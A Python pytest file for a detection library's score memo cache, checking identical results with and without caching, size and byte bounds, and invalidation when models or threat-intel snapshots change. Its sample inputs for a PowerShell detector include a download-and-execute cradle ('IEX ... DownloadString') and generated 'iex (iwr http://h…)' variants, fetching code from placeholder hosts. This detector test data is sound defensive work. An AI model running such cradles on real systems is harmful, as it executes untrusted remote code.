"""The memo of final scores across batches: same answers, bounded, gone when models move."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

from vigil._types import StringColumn, as_string_array
from vigil.errors import ConfigError, SlowPathWarning
from vigil.runtime import BUILTIN_DETECTIONS, BoundDetection
from vigil.runtime.detection import Detection
from vigil.runtime.memo import ScoreMemo
from vigil.store import Store

PublishModel = Callable[..., Any]

MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
BENIGN = "Get-Service w32time"


class Spy:
    """Counts every value that reaches an extractor of ``bound``; can fail whole batches."""

    def __init__(
        self, bound: BoundDetection, monkeypatch: pytest.MonkeyPatch, *, fail_batches: int = 0
    ) -> None:
        self.seen: Counter[str | None] = Counter()
        self.fail_batches = fail_batches
        real = bound.extractor_for
        monkeypatch.setattr(bound, "extractor_for", lambda model: _Counting(real(model), self))


class _Counting:
    def __init__(self, inner: Any, spy: Spy) -> None:
        self._inner = inner
        self._spy = spy

    def transform(self, values: StringColumn) -> Any:
        batch = as_string_array(values).to_pylist()
        if self._spy.fail_batches and len(batch) > 1:
            self._spy.fail_batches -= 1
            raise RuntimeError("transient failure")
        self._spy.seen.update(batch)
        return self._inner.transform(values)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)


@pytest.fixture
def bound(store: Store, publish_model: PublishModel) -> BoundDetection:
    publish_model()
    return BUILTIN_DETECTIONS["powershell"].bind(store)


def test_a_value_repeated_in_a_later_batch_is_scored_once(
    bound: BoundDetection, monkeypatch: pytest.MonkeyPatch
) -> None:
    spy = Spy(bound, monkeypatch)
    first = bound.score([MALICIOUS, BENIGN, MALICIOUS, None])
    second = bound.score([BENIGN, "Get-Date", None, MALICIOUS])
    assert spy.seen == Counter({MALICIOUS: 1, BENIGN: 1, "Get-Date": 1})
    assert second[0] == first[1]
    assert second[3] == first[0]
    assert np.isnan(second[2])
    stats = bound.memo_stats
    assert (stats.hits, stats.misses, stats.entries) == (2, 3, 3)
    assert stats.hit_rate == pytest.approx(0.4)


def test_memo_size_zero_turns_it_off(
    store: Store, publish_model: PublishModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store, memo_size=0)
    spy = Spy(bound, monkeypatch)
    bound.score([BENIGN])
    bound.score([BENIGN])
    assert spy.seen[BENIGN] == 2
    assert bound.memo_stats.lookups == 0
    with pytest.raises(ConfigError, match="memo_size"):
        BUILTIN_DETECTIONS["powershell"].bind(store, memo_size=-1)


@pytest.mark.parametrize("seed", [1, 2, 3])
@pytest.mark.parametrize("memo_size", [1, 16, 262_144])
def test_scores_are_the_same_with_and_without_the_memo(
    store: Store, publish_model: PublishModel, seed: int, memo_size: int
) -> None:
    publish_model()
    with_memo = BUILTIN_DETECTIONS["powershell"].bind(
        store, memo_size=memo_size, memo_max_value_bytes=64
    )
    without = BUILTIN_DETECTIONS["powershell"].bind(store, memo_size=0)
    rng = np.random.default_rng(seed)
    pool: list[str | None] = [
        None,
        "",
        " ",
        MALICIOUS,
        BENIGN,
        "Ünïcödé 中文 🙂",
        "iex " * 40,  # longer than the 64-byte cap: never memoized
        *(f"Get-Service svc{i}" for i in range(30)),
        *(f"iex (iwr http://h{i}/a)" for i in range(30)),
    ]
    for _ in range(25):
        batch = [pool[i] for i in rng.integers(0, len(pool), int(rng.integers(1, 120)))]
        expected = without.score(batch)
        got = with_memo.score(pa.array(batch, type=pa.string()))
        np.testing.assert_allclose(got, expected, rtol=0, atol=1e-12)
        np.testing.assert_array_equal(np.isnan(got), np.isnan(expected))
        assert with_memo.memo_stats.entries <= memo_size
    assert with_memo.memo_stats.hits > 0


def test_promoting_a_model_clears_the_memo_on_the_next_batch(
    bound: BoundDetection, store: Store, publish_model: PublishModel
) -> None:
    before = bound.score([BENIGN, MALICIOUS])
    np.testing.assert_array_equal(bound.score([BENIGN, MALICIOUS]), before)
    assert bound.memo_stats.hits == 2
    newer = publish_model(bias=4.0, alias=None)
    store.promote("powershell", newer.version)
    after = bound.score([BENIGN, MALICIOUS])
    assert before[0] < 0.1 < 0.9 < after[0]
    assert (bound.memo_stats.hits, bound.memo_stats.misses, bound.memo_stats.entries) == (2, 4, 2)
    store.rollback("powershell")
    np.testing.assert_allclose(bound.score([BENIGN, MALICIOUS]), before, rtol=0, atol=1e-12)


def test_an_ensemble_member_moving_clears_the_memo(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model(bias=-3.0)
    publish_model(bias=3.0, alias="staging")
    ensemble = Detection(
        "powershell", "powershell", members=("@production", "@staging"), combine="max"
    ).bind(store)
    before = ensemble.score([BENIGN])
    ensemble.score([BENIGN])
    third = publish_model(bias=5.0, alias=None)
    store.promote("powershell", third.version, "staging")
    after = ensemble.score([BENIGN])
    assert after[0] > before[0]
    assert ensemble.memo_stats.misses == 2


def test_a_refreshed_intel_snapshot_clears_the_memo(trained_domain_model: Any) -> None:
    from vigil.intel import IntelSnapshot

    models = Store(trained_domain_model.store_path)
    bound = BUILTIN_DETECTIONS["domain"].bind(models, intel=trained_domain_model.intel)
    listed = list(trained_domain_model.listed[:20])
    assert np.all(bound.score(listed) == 1.0)
    assert np.all(bound.score(listed) == 1.0)
    assert bound.memo_stats.hits == len(listed)

    # The same entries loaded again: another object, so another generation.
    bound.intel = IntelSnapshot.from_snapshots(trained_domain_model.intel.sources)
    assert np.all(bound.score(listed) == 1.0)
    assert (bound.memo_stats.hits, bound.memo_stats.misses) == (len(listed), 2 * len(listed))

    # Intel that no longer lists them: model scores, not memoized lookups.
    bound.intel = IntelSnapshot.empty()
    after = bound.score(listed)
    expected = (
        BUILTIN_DETECTIONS["domain"]
        .bind(models, intel=IntelSnapshot.empty(), memo_size=0)
        .score(listed)
    )
    np.testing.assert_allclose(after, expected, rtol=0, atol=1e-12)
    assert np.any(after < 1.0)


def test_values_longer_than_the_cap_are_never_memoized(
    store: Store, publish_model: PublishModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)  # default cap: 65,536 bytes
    spy = Spy(bound, monkeypatch)
    script = "iex " * 16_400  # 65,600 bytes
    at_cap = "x" * 65_536
    first = bound.score([script, BENIGN, at_cap])
    second = bound.score([at_cap, script, BENIGN])
    assert spy.seen == Counter({script: 2, BENIGN: 1, at_cap: 1})
    np.testing.assert_allclose(second, first[[2, 0, 1]], rtol=0, atol=1e-12)
    assert bound.memo_stats.entries == 2


def test_row_by_row_fallback_scores_are_not_memoized(
    bound: BoundDetection, monkeypatch: pytest.MonkeyPatch
) -> None:
    spy = Spy(bound, monkeypatch, fail_batches=1)
    values = [MALICIOUS, BENIGN, "Get-Date"]
    with pytest.warns(SlowPathWarning, match="one by one"):
        slow = bound.score(values)
    assert bound.memo_stats.entries == 0
    fast = bound.score(values)  # the batch path works again: scored, now memoized
    bound.score(values)
    np.testing.assert_allclose(fast, slow, rtol=0, atol=1e-12)
    assert spy.seen == Counter(dict.fromkeys(values, 2))
    assert bound.memo_stats.entries == 3


def test_the_memo_never_exceeds_its_bound(store: Store, publish_model: PublishModel) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store, memo_size=10)
    rng = np.random.default_rng(7)
    for _ in range(40):
        batch = [f"Get-Service svc{i}" for i in rng.integers(0, 40, 7)]
        bound.score(batch)
        assert bound.memo_stats.entries <= 10
    assert bound.memo_stats.hits > 0
    bound.score([f"Start-Process p{i}" for i in range(25)])  # more than it holds, at once
    assert bound.memo_stats.entries <= 10


def test_the_memo_keeps_the_values_used_since_it_last_filled() -> None:
    memo = ScoreMemo(4)  # two generations of two

    def ask(values: list[str]) -> Any:
        found = memo.lookup("g", pa.array(values, type=pa.large_string()))
        memo.store(found, np.full(found.missing.size, 0.5))
        return found

    ask(["hot", "a"])
    ask(["b"])  # the new generation is full: "hot" and "a" move to the old one
    assert ask(["hot"]).missing.size == 0  # found in the old generation, copied back
    ask(["c", "d"])  # "hot" survives this rotation, "a" does not
    assert ask(["hot"]).missing.size == 0
    assert ask(["a"]).missing.size == 1
    assert memo.stats.entries <= 4


def test_the_memo_holds_at_most_its_bytes_of_values() -> None:
    memo = ScoreMemo(1_000, max_bytes=50)
    for start in range(0, 200, 7):
        found = memo.lookup("g", pa.array([f"{i:010d}" for i in range(start, start + 7)]))
        memo.store(found, np.zeros(found.missing.size))
        assert 0 < memo.stats.entries * 10 <= 50


def test_clear_memo_forgets_scores_and_counters(bound: BoundDetection) -> None:
    bound.score([BENIGN])
    bound.score([BENIGN])
    bound.clear_memo()
    assert bound.memo_stats.lookups == 0
    assert bound.memo_stats.entries == 0
    bound.score([BENIGN])
    assert bound.memo_stats.misses == 1
